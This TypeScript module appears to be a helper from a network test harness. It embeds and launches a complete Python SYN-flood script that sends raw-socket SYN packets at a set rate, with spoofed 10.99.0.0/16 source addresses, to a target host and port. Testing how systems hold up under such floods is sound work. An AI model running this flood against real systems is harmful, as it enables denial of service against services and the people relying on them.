import type { Host, Service } from '../host.ts';

const FLOOD = `
import random, socket, struct, sys, time
target, port, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF

def syn(source, sport):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    tcp = struct.pack("!HHIIBBHHH", sport, port, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + ends + tcp

began = time.monotonic()
while True:
    for _ in range(rate // 100):
        source = f"10.99.{random.randrange(256)}.{random.randrange(1, 255)}"
        wire.sendto(syn(source, random.randrange(1024, 65536)), (target, port))
    if began is not None and time.monotonic() - began > 2:
        began = print("full", flush=True)
    time.sleep(0.01)
`;

/** So many SYNs a second from addresses of 10.99.0.0/16, which do not answer: answers to them must lead nowhere. */
export async function floodSyns(
  from: Host,
  address: string,
  port: number,
  perSecond: number,
): Promise<Service> {
  const flood = await from.start(['/usr/bin/python3', '-c', FLOOD, address, String(port), String(perSecond)]);
  for (let waited = 0; waited < 200; waited += 1) {
    if (flood.output().includes('full')) return flood;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`the flood: ${flood.output()}`);
}
